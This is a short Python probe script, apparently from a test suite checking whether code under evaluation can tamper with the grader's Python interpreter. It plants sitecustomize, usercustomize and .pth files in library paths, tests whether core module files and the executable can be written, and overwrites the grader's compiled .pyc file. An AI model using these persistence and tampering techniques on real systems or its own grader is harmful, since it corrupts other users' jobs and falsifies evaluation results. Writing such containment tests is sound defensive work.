"""Plant code in the interpreter that the grader uses: a module, a .pth file, a compiled file, sitecustomize.

Shows: a new file there, or PWNED on stdout where a later job runs it.
Again: what was left is found.
"""

import json
import os
import sys
from contextlib import suppress

if hasattr(sys, "lydite_attack"):
    print("PWNED planted code ran")
code = "import sys; sys.lydite_attack = True\n"
library = os.path.dirname(os.__file__)
for place in (
    "@SITE@",
    "@SOURCE@",
    "@SOURCE@/lydite",
    library,
    f"{library}/site-packages",
    "/usr/lib/python3/dist-packages",
):
    for name in ("lydite-attack.pth", "sitecustomize.py", "usercustomize.py", "lydite_attack.py"):
        with suppress(OSError):
            if not os.path.exists(f"{place}/{name}"):
                with open(f"{place}/{name}", "w") as file:
                    file.write(code)
                print("PWNED", place, name)
for path in (json.__file__, json.__cached__, os.__file__, sys.executable, os.path.realpath(sys.executable)):
    with suppress(OSError), open(path, "r+b"):
        print("PWNED", path, "can be written")
with suppress(OSError), open("@VICTIM@/grader/__pycache__/grader.cpython-311.pyc", "wb") as file:
    file.write(b"lydite-attack")
